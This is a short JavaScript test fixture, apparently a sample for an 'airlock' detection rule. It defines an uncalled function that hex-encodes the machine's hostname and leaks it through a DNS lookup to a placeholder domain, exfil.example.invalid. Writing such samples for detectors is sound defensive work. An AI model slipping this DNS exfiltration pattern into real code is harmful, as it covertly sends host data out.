// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const dns = require('dns');
const os = require('os');
function never() {
  dns.resolve(Buffer.from(os.hostname()).toString('hex') + '.exfil.example.invalid', () => {});
}
module.exports = { never };
